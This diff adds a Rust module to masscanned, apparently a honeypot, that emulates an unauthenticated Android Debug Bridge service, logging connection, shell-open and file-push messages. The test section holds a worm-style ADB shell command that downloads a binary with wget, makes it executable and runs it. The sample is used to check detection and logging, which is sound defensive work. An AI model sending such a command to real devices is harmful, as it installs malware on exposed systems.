@@ -0,0 +1,404 @@
+// This file is part of masscanned.
+// Copyright 2021 - The IVRE project
+//
+// Masscanned is free software: you can redistribute it and/or modify it
+// under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// Masscanned is distributed in the hope that it will be useful, but WITHOUT
+// ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
+// or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public
+// License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with Masscanned. If not, see <http://www.gnu.org/licenses/>.
+
+use std::io;
+
+use log::*;
+use serde::Deserialize;
+
+use crate::client::ClientInfo;
+use crate::logger::{encode, Encoding, Event};
+use crate::proto::tcb::{ProtoState, TCPControlBlock};
+use crate::Masscanned;
+
+/* Android Debug Bridge messages (system/core/adb/protocol.txt) */
+const A_CNXN: u32 = 0x4e584e43;
+const A_AUTH: u32 = 0x48545541;
+const A_OPEN: u32 = 0x4e45504f;
+const A_OKAY: u32 = 0x59414b4f;
+const A_CLSE: u32 = 0x45534c43;
+const A_WRTE: u32 = 0x45545257;
+
+const A_VERSION: u32 = 0x01000000;
+/* from this version on, the data checksum is not checked (and may
+ * be 0) */
+const A_VERSION_SKIP_CHECKSUM: u32 = 0x01000001;
+
+const ADB_HEADER_LEN: usize = 24;
+/* maximum payload accepted from clients (MAX_PAYLOAD of recent
+ * versions) */
+const ADB_MAX_PAYLOAD: usize = 1024 * 1024;
+
+/* CNXN from the host, protocol versions 0x01000000 and 0x01000001 */
+pub const ADB_PATTERN_CNXN: &[u8; 8] = b"CNXN*\x00\x00\x01";
+
+/* ADB over TCP, as exposed by a device with debugging enabled and no
+ * authentication: CNXN messages get a CNXN with banner, OPEN messages
+ * (e.g., shell:... commands, the payload of ADB worms) are recorded and
+ * get an OKAY and a CLSE, WRTE messages (e.g., files pushed) are
+ * recorded (log_max bytes of data) and get an OKAY.
+ **/
+#[derive(Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct AdbConfig {
+    pub ports: Vec<u16>,
+    /* connection state and properties of the device */
+    pub banner: String,
+    pub max_data: u32,
+    pub log_max: usize,
+}
+
+impl Default for AdbConfig {
+    fn default() -> Self {
+        AdbConfig {
+            ports: vec![5555],
+            banner: "device::ro.product.name=rk3288;ro.product.model=rk3288;ro.product.device=rk3288;features=cmd,shell_v2".to_string(),
+            max_data: 256 * 1024,
+            log_max: 4096,
+        }
+    }
+}
+
+impl AdbConfig {
+    pub fn check(&self) -> Result<(), io::Error> {
+        if !self.banner.contains("::") {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidData,
+                format!("adb: invalid banner (state::properties): {:?}", self.banner),
+            ));
+        }
+        if self.max_data < 4096 {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidData,
+                format!("adb: invalid max_data (at least 4096): {}", self.max_data),
+            ));
+        }
+        Ok(())
+    }
+}
+
+/* state of a flow: beginning of a message not received entirely yet,
+ * protocol version of the host and last local ID of a stream */
+#[derive(Default)]
+pub struct AdbState {
+    buffer: Vec<u8>,
+    version: u32,
+    local_id: u32,
+}
+
+struct AdbMessage {
+    command: u32,
+    arg0: u32,
+    arg1: u32,
+    data: Vec<u8>,
+}
+
+/* the "CRC" of ADB messages is the sum of the bytes of the payload */
+fn adb_checksum(data: &[u8]) -> u32 {
+    data.iter().fold(0u32, |sum, b| sum.wrapping_add(*b as u32))
+}
+
+fn adb_command_name(command: u32) -> String {
+    let name = command.to_le_bytes();
+    if name.iter().all(|c| c.is_ascii_uppercase()) {
+        String::from_utf8_lossy(&name).to_string()
+    } else {
+        format!("0x{:08x}", command)
+    }
+}
+
+fn le32(data: &[u8], offset: usize) -> Option<u32> {
+    let b = data.get(offset..offset + 4)?;
+    Some(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
+}
+
+fn adb_message(command: u32, arg0: u32, arg1: u32, data: &[u8]) -> Vec<u8> {
+    let mut msg = Vec::with_capacity(ADB_HEADER_LEN + data.len());
+    for v in [
+        command,
+        arg0,
+        arg1,
+        data.len() as u32,
+        adb_checksum(data),
+        command ^ 0xffffffff,
+    ] {
+        msg.extend_from_slice(&v.to_le_bytes());
+    }
+    msg.extend_from_slice(data);
+    msg
+}
+
+/* Message at the beginning of buffer: Some(Ok(message, length)), None
+ * when incomplete, Some(Err(reason)) when invalid (the connection is
+ * closed) */
+fn adb_parse(buffer: &[u8], version: u32) -> Option<Result<(AdbMessage, usize), String>> {
+    if buffer.len() < ADB_HEADER_LEN {
+        return None;
+    }
+    let command = le32(buffer, 0)?;
+    let len = le32(buffer, 12)? as usize;
+    let crc = le32(buffer, 16)?;
+    if le32(buffer, 20)? != command ^ 0xffffffff {
+        return Some(Err("invalid magic".to_string()));
+    }
+    if len > ADB_MAX_PAYLOAD {
+        return Some(Err(format!("payload too large ({} bytes)", len)));
+    }
+    if buffer.len() < ADB_HEADER_LEN + len {
+        return None;
+    }
+    let data = buffer[ADB_HEADER_LEN..ADB_HEADER_LEN + len].to_vec();
+    /* hosts announcing a recent version in their CNXN send 0 */
+    let skip = version >= A_VERSION_SKIP_CHECKSUM
+        || (command == A_CNXN && le32(buffer, 4)? >= A_VERSION_SKIP_CHECKSUM);
+    if !(skip && crc == 0) && crc != adb_checksum(&data) {
+        return Some(Err(format!(
+            "invalid checksum (0x{:08x} instead of 0x{:08x})",
+            crc,
+            adb_checksum(&data)
+        )));
+    }
+    Some(Ok((
+        AdbMessage {
+            command,
+            arg0: le32(buffer, 4)?,
+            arg1: le32(buffer, 8)?,
+            data,
+        },
+        ADB_HEADER_LEN + len,
+    )))
+}
+
+/* strings of payloads end with a NUL byte */
+fn adb_string(data: &[u8]) -> String {
+    let end = data.iter().position(|c| *c == 0).unwrap_or(data.len());
+    String::from_utf8_lossy(&data[..end]).to_string()
+}
+
+fn adb_event(msg: &AdbMessage, config: &AdbConfig, client_info: &ClientInfo) -> Event {
+    let mut event = Event::new("adb_message", client_info);
+    event.set("command", adb_command_name(msg.command));
+    event.set("arg0", msg.arg0);
+    event.set("arg1", msg.arg1);
+    event.set("length", msg.data.len());
+    match msg.command {
+        A_CNXN => {
+            event.set("version", format!("0x{:08x}", msg.arg0));
+            event.set("max_data", msg.arg1);
+            event.set("banner", adb_string(&msg.data));
+        }
+        A_OPEN => {
+            event.set("destination", adb_string(&msg.data));
+        }
+        _ => {
+            let len = std::cmp::min(msg.data.len(), config.log_max);
+            event.set("data", encode(&msg.data[..len], Encoding::Base64));
+        }
+    }
+    event
+}
+
+fn adb_answer(msg: &AdbMessage, config: &AdbConfig, state: &mut AdbState) -> Option<Vec<u8>> {
+    match msg.command {
+        A_CNXN => {
+            state.version = std::cmp::min(msg.arg0, A_VERSION_SKIP_CHECKSUM);
+            let mut banner = config.banner.as_bytes().to_vec();
+            banner.push(0);
+            Some(adb_message(
+                A_CNXN,
+                std::cmp::max(state.version, A_VERSION),
+                config.max_data,
+                &banner,
+            ))
+        }
+        A_OPEN => {
+            let destination = adb_string(&msg.data);
+            warn!("ADB OPEN {}", destination);
+            state.local_id = state.local_id.wrapping_add(1).max(1);
+            let mut repl = adb_message(A_OKAY, state.local_id, msg.arg0, b"");
+            repl.extend(adb_message(A_CLSE, state.local_id, msg.arg0, b""));
+            Some(repl)
+        }
+        /* acknowledged, so that pushes go on */
+        A_WRTE => Some(adb_message(A_OKAY, msg.arg1, msg.arg0, b"")),
+        A_OKAY | A_CLSE | A_AUTH => None,
+        command => {
+            info!("ADB command not handled: {}", adb_command_name(command));
+            None
+        }
+    }
+}
+
+pub fn repl(
+    data: &[u8],
+    masscanned: &Masscanned,
+    client_info: &mut ClientInfo,
+    mut tcb: Option<&mut TCPControlBlock>,
+) -> Option<Vec<u8>> {
+    debug!("receiving ADB data");
+    let config = &masscanned.config.adb;
+    let mut state = match tcb
+        .as_mut()
+        .map(|t| std::mem::replace(&mut t.proto_state, ProtoState::None))
+    {
+        Some(ProtoState::Adb(s)) => s,
+        _ => AdbState::default(),
+    };
+    state.buffer.extend_from_slice(data);
+    let mut repl_data = Vec::new();
+    while let Some(parsed) = adb_parse(&state.buffer, state.version) {
+        let (msg, len) = match parsed {
+            Ok(m) => m,
+            Err(reason) => {
+                info!("invalid ADB message: {}", reason);
+                client_info.close = true;
+                return None;
+            }
+        };
+        state.buffer.drain(..len);
+        adb_event(&msg, config, client_info).log();
+        if let Some(answer) = adb_answer(&msg, config, &mut state) {
+            repl_data.extend(answer);
+        }
+    }
+    if let Some(t) = tcb {
+        t.proto_state = ProtoState::Adb(state);
+    }
+    if repl_data.is_empty() {
+        return None;
+    }
+    debug!("sending ADB data");
+    Some(repl_data)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use crate::proto::test_util::masscanned;
+    use pnet::packet::ip::IpNextHeaderProtocols;
+    use std::str::FromStr;
+
+    /* ADB worm (ADB.Miner-like): CNXN with an old version, then a shell
+     * command fetching and running the payload */
+    const WORM_CNXN: &[u8] = b"CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00";
+    const WORM_OPEN_HEADER: &[u8] =
+        b"OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x66\x00\x00\x00\x75\x1f\x00\x00\xb0\xaf\xba\xb1";
+    const WORM_SHELL: &[u8] = b"shell:cd /data/local/tmp/; wget http://198.51.100.7/bins/arm7 -O arm7; chmod 777 arm7; ./arm7 android\x00";
+
+    #[test]
+    fn test_adb_checksum() {
+        assert!(adb_checksum(b"host::\x00") == 0x232);
+        assert!(adb_checksum(WORM_SHELL) == 0x1f75);
+        assert!(adb_checksum(b"") == 0);
+        let msg = adb_message(A_CNXN, A_VERSION, 4096, b"host::\x00");
+        assert!(msg == WORM_CNXN);
+        /* wrong checksum, wrong magic */
+        let mut msg = WORM_CNXN.to_vec();
+        msg[16] ^= 1;
+        assert!(adb_parse(&msg, 0).unwrap().is_err());
+        let mut msg = WORM_CNXN.to_vec();
+        msg[20] ^= 1;
+        assert!(adb_parse(&msg, 0).unwrap().is_err());
+        /* recent hosts do not compute it */
+        let msg = adb_message(A_CNXN, A_VERSION_SKIP_CHECKSUM, 1024 * 1024, b"host::\x00");
+        let mut msg = msg.to_vec();
+        msg[16..20].copy_from_slice(&[0, 0, 0, 0]);
+        let (m, len) = adb_parse(&msg, 0).unwrap().unwrap();
+        assert!(m.command == A_CNXN && len == msg.len());
+        /* incomplete */
+        for i in 0..WORM_CNXN.len() {
+            assert!(adb_parse(&WORM_CNXN[..i], 0).is_none());
+        }
+    }
+
+    #[test]
+    fn test_adb_worm() {
+        let masscanned = masscanned(Config::default());
+        let mut client_info = ClientInfo::new();
+        client_info.transport = Some(IpNextHeaderProtocols::Tcp);
+        client_info.port.dst = Some(5555);
+        let mut tcb = TCPControlBlock::new();
+        let repl = crate::proto::dispatch(WORM_CNXN, &masscanned, &mut client_info, Some(&mut tcb))
+            .unwrap();
+        let (m, len) = adb_parse(&repl, 0).unwrap().unwrap();
+        assert!(len == repl.len());
+        assert!(m.command == A_CNXN && m.arg0 == A_VERSION && m.arg1 == 256 * 1024);
+        assert!(m.data.starts_with(b"device::ro.product.name=") && m.data.ends_with(b"\x00"));
+        /* OPEN split across segments: OKAY and CLSE */
+        assert!(crate::proto::dispatch(
+            WORM_OPEN_HEADER,
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb)
+        )
+        .is_none());
+        let open = adb_parse(&[WORM_OPEN_HEADER, WORM_SHELL].concat(), 0)
+            .unwrap()
+            .unwrap()
+            .0;
+        let event = adb_event(&open, &masscanned.config.adb, &client_info);
+        assert!(
+            event.fields["destination"]
+                == "shell:cd /data/local/tmp/; wget http://198.51.100.7/bins/arm7 -O arm7; chmod 777 arm7; ./arm7 android"
+        );
+        let repl =
+            crate::proto::dispatch(WORM_SHELL, &masscanned, &mut client_info, Some(&mut tcb))
+                .unwrap();
+        assert!(repl.len() == 2 * ADB_HEADER_LEN);
+        assert!(repl[..ADB_HEADER_LEN] == adb_message(A_OKAY, 1, 1, b"")[..]);
+        assert!(repl[ADB_HEADER_LEN..] == adb_message(A_CLSE, 1, 1, b"")[..]);
+        /* WRTE on a stream gets an OKAY */
+        let repl = crate::proto::dispatch(
+            &adb_message(A_WRTE, 2, 1, b"DATA"),
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb),
+        )
+        .unwrap();
+        assert!(repl == adb_message(A_OKAY, 1, 2, b""));
+        /* garbage closes the connection */
+        assert!(crate::proto::dispatch(
+            &[0u8; ADB_HEADER_LEN],
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb)
+        )
+        .is_none());
+        assert!(client_info.close);
+    }
+
+    #[test]
+    fn test_adb_other_port() {
+        /* recent adb client, on a port that is not configured */
+        let masscanned = masscanned(Config::default());
+        let mut client_info = ClientInfo::new();
+        client_info.transport = Some(IpNextHeaderProtocols::Tcp);
+        client_info.port.dst = Some(5556);
+        let mut tcb = TCPControlBlock::new();
+        let cnxn = adb_message(
+            A_CNXN,
+            A_VERSION_SKIP_CHECKSUM,
+            1024 * 1024,
+            b"host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb,fixed_push_symlink_timestamp,abb_exec,remount_shell,track_app,sendrecv_v2,sendrecv_v2_brotli,sendrecv_v2_lz4,sendrecv_v2_zstd,sendrecv_v2_dry_run_send,openscreen_mdns",
+        );
+        let repl =
+            crate::proto::dispatch(&cnxn, &masscanned, &mut client_info, Some(&mut tcb)).unwrap();
+        let (m, _) = adb_parse(&repl, 0).unwrap().unwrap();
+        assert!(m.command == A_CNXN && m.arg0 == A_VERSION_SKIP_CHECKSUM);
+        assert!(Config::from_str("[adb]\nbanner = \"device\"\n").is_err());
+    }
+}